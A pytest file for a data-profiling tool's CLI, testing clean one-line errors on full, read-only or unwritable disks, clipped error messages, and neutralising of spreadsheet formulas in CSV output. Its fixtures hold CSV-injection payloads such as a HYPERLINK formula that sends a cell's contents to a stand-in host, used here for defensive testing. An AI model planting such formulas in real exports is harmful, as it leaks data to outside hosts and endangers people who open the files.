"""Outputs that never lie: every operating-system problem is one ``Error:`` line naming the path,
with nothing half-written and the previous output intact; CSV for people carries no formula
from data; error lines repeat at most 200 characters of the input.

The full and read-only disks are real: a small tmpfs mounted for the test (root only; skipped,
with the reason, where mounting is not permitted)."""

from __future__ import annotations

import io
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pandas as pd
import pytest

from profiler import store
from profiler.audience import Audience, write_audience
from profiler.errors import clip
from profiler.safecsv import neutralise, safe_frame
from workbook.cli import main


def one_error_line(capsys, *fragments: str) -> str:
    err = capsys.readouterr().err
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if not line.startswith("  ")]  # not progress
    assert len(lines) == 1 and lines[0].startswith("Error: "), err
    for fragment in fragments:
        assert fragment in lines[0], (fragment, lines[0])
    return lines[0]


def hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.rglob(".*") if p.name != ".lock")


@pytest.fixture
def small_disk(tmp_path: Path):
    """A 3 MB tmpfs at tmp_path/disk, unmounted afterwards."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(mount)],
        capture_output=True,
        text=True,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({done.stderr.strip() or 'not permitted'})")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def read_only(mount: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(mount)], check=True)


@pytest.fixture
def data(source_dir: Path) -> Path:
    return source_dir


def build(data: Path, out: Path) -> int:
    return main(["build", "--data", str(data), "--out", str(out), "--as-of", "2024-12-31"])


# ---------------------------------------------------------------------------------------------
# a full disk, a read-only disk


def test_a_full_disk_is_one_line_and_leaves_the_previous_build(
    data: Path, small_disk: Path, capsys
) -> None:
    car = small_disk / "car"
    assert build(data, car) == 0
    before = store.open_generation(car)
    capsys.readouterr()
    free = shutil.disk_usage(small_disk).free
    (small_disk / "filler").write_bytes(b"\0" * (free - 40_000))  # 40 KB left
    assert build(data, car) == 1
    line = one_error_line(capsys, str(car), "the disk is full", "needs about", "free")
    assert "Traceback" not in line
    assert store.open_generation(car).build_id == before.build_id  # still current, whole
    assert store.read_car(car).shape == before.read_car().shape
    assert hidden(car) == []  # the failed generation was removed
    # The workbook and a demo table: the same one line, and no temporary file left.
    assert main(["generate", "--customers", "200", "--out", str(small_disk / "gen")]) == 1
    one_error_line(capsys, str(small_disk / "gen"), "the disk is full")
    assert hidden(small_disk) == []


def test_a_read_only_folder_is_one_line_for_every_writer(
    data: Path, small_disk: Path, demo_car_dir: Path, tmp_path: Path, capsys
) -> None:
    car = small_disk / "car"
    assert build(data, car) == 0
    book = tmp_path / "book.xlsm"
    assert main(["workbook", "--car", str(demo_car_dir), "--out", str(book)]) == 0
    shutil.copy(book, small_disk / "book.xlsm")
    read_only(small_disk)
    capsys.readouterr()
    runs = {
        "build": ["build", "--data", str(data), "--out", str(car)],
        "validate": ["validate", "--data", str(data), "--out", str(small_disk / "q")],
        "generate": ["generate", "--customers", "50", "--out", str(small_disk / "gen")],
        "audience": [
            "audience",
            "Buyers",
            "--car",
            str(demo_car_dir),
            "--out",
            str(small_disk / "a.csv"),
        ],
        "workbook": ["workbook", "--car", str(demo_car_dir), "--out", str(small_disk / "w.xlsm")],
        "refresh": ["refresh", str(small_disk / "book.xlsm"), "--car", str(demo_car_dir)],
        "snapshot": ["snapshot", str(book), "--out", str(small_disk / "s.xlsx")],
    }
    for name, args in runs.items():
        assert main(args) == 1, name
        one_error_line(capsys, str(small_disk), "read-only")
    assert store.read_car(car).shape[0] == 3  # the build there is still whole


def test_path_problems_are_one_line(data: Path, demo_car_dir: Path, tmp_path: Path, capsys) -> None:
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    audience = ["audience", "Buyers", "--car", str(demo_car_dir), "--out"]
    assert main([*audience, str(tmp_path / "missing" / "a.csv")]) == 1
    one_error_line(capsys, str(tmp_path / "missing"), "does not exist")
    assert main([*audience, str(a_file / "a.csv")]) == 1
    one_error_line(capsys, str(a_file), "is a file, not a folder")
    assert main([*audience, str(tmp_path / ("x" * 300 + ".csv"))]) == 1
    one_error_line(capsys, "the path is too long")
    assert main([*audience, str(tmp_path)]) == 1
    one_error_line(capsys, str(tmp_path), "is a folder, not a file")
    assert main(["validate", "--data", str(data), "--out", str(a_file)]) == 1
    one_error_line(capsys, str(a_file), "is a file, not a folder")
    assert hidden(tmp_path) == []


def test_permission_denied_is_one_line(data: Path) -> None:
    """Root writes anywhere: the command runs without the capability to override file
    permissions (setpriv), into a folder nobody may write."""
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is not installed")
    shared = Path(tempfile.mkdtemp(prefix="profiler-perm-"))
    try:
        shutil.copytree(data, shared / "data")
        (shared / "locked").mkdir(mode=0o555)
        (shared / "locked").chmod(0o555)
        drop = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"]
        out = shared / "locked" / "q"
        done = subprocess.run(
            [
                *drop,
                sys.executable,
                "-m",
                "workbook.cli",
                "validate",
                "--data",
                str(shared / "data"),
                "--out",
                str(out),
            ],
            capture_output=True,
            text=True,
            cwd=Path(__file__).resolve().parents[1],
        )
        if "setpriv:" in done.stderr:
            pytest.skip(f"cannot drop capabilities here ({done.stderr.strip()})")
        errors = [line for line in done.stderr.splitlines() if not line.startswith("  ")]
        assert done.returncode == 1 and errors == [
            f"Error: {out}: permission denied (check who owns the folder and its write permission)."
        ], done.stderr
    finally:
        shutil.rmtree(shared, ignore_errors=True)


# ---------------------------------------------------------------------------------------------
# CSV for people


HOSTILE = [
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\r=",
]


def test_cells_that_would_run_as_formulas_get_a_quote_numbers_do_not() -> None:
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    for kept in ("-12.50", "+44", "1e-5", "plain", "", "a=b", 3, -4.5, None):
        assert neutralise(kept) == kept
    frame = pd.DataFrame(
        {
            "text": HOSTILE,
            "number": [-1.0, 2, 3, 4, 5, 6],
            "category": pd.Categorical(["=1", "x", "x", "x", "x", "-3"]),
        }
    )
    safe = safe_frame(frame)
    assert safe["text"].tolist() == ["'" + v for v in HOSTILE]
    assert safe["number"].equals(frame["number"])
    assert safe["category"].astype(str).tolist() == ["'=1", "x", "x", "x", "x", "-3"]
    assert frame["text"].tolist() == HOSTILE  # the caller's frame is untouched


def test_quarantine_and_audience_csv_carry_no_formula_from_data(
    data: Path, tmp_path: Path, capsys
) -> None:
    from openpyxl import load_workbook

    from tests.libreoffice import convert, soffice_available

    lines = (data / "order_lines.csv").read_text()
    hostile = '"=HYPERLINK(""http://x.example"",""click"")"'
    (data / "order_lines.csv").write_text(
        lines + f"O9,1,1,2024-01-02,{hostile},P1,-3,10,GBP,1,completed,\n"
    )
    assert main(["validate", "--data", str(data), "--out", str(tmp_path / "q")]) == 0
    assert main(["validate", "--data", str(data), "--out", str(tmp_path / "raw"), "--raw"]) == 0
    value = '=HYPERLINK("http://x.example","click")'
    safe = pd.read_csv(tmp_path / "q" / "quarantine.csv", dtype=str)
    raw = pd.read_csv(tmp_path / "raw" / "quarantine.csv", dtype=str)
    assert safe["value"].tolist() == ["'" + value] and raw["value"].tolist() == [value]
    audience = Audience(
        "c", "email", pd.DataFrame({"customer_id": ["1"], "note": ["@cmd"]}), pd.DataFrame()
    )
    write_audience(audience, str(tmp_path / "a.csv"))
    assert (tmp_path / "a.csv").read_text().splitlines()[1] == "1,'@cmd"
    if not soffice_available():
        pytest.skip("LibreOffice is not installed")

    def formulas(csv: Path) -> list[str]:
        opened = load_workbook(convert(csv, "xlsx", tmp_path / "lo" / csv.parent.name))
        return [c.value for row in opened.active.iter_rows() for c in row if c.data_type == "f"]

    assert formulas(tmp_path / "raw" / "quarantine.csv") == [value]  # what --raw would run
    assert formulas(tmp_path / "q" / "quarantine.csv") == []


def test_every_csv_command_takes_raw() -> None:
    import click

    from workbook.cli.app import cli

    checked = 0
    stack: list[click.Command] = [cli]
    while stack:
        command = stack.pop()
        if isinstance(command, click.Group):
            stack.extend(command.commands.values())
        flags = {flag for p in command.params for flag in getattr(p, "opts", [])}
        if "--csv" in flags:
            assert "--raw" in flags, command.name
            checked += 1
    assert checked >= 8


def test_csv_views_are_safe_unless_raw(monkeypatch, capsys) -> None:
    from workbook.cli import output as cli_output

    frame = pd.DataFrame({"cohort": ["=1+1", "All"], "value": [-1.5, 2.0]})
    cli_output.print_csv(frame)
    assert capsys.readouterr().out.splitlines()[1:] == ["'=1+1,-1.5", "All,2.0"]
    monkeypatch.setattr(cli_output, "RAW_CSV", True)
    cli_output.print_csv(frame)
    assert capsys.readouterr().out.splitlines()[1] == "=1+1,-1.5"


# ---------------------------------------------------------------------------------------------
# echoed input


def test_error_lines_repeat_at_most_200_characters_of_input(demo_car_dir: Path, capsys) -> None:
    huge = "orders_ltd > " + "9" * 1_000_000
    for args in (
        ["summary", "--car", str(demo_car_dir), "--cohorts", huge, "--period", "2025"],
        ["cohorts", "show", huge, "--car", str(demo_car_dir)],
    ):
        assert main(args) == 1
        line = one_error_line(capsys, "more characters")
        assert len(line) < 600
    assert clip("x" * 201) == "x" * 200 + "… (1 more characters)"
    assert clip(io.StringIO) == str(io.StringIO)
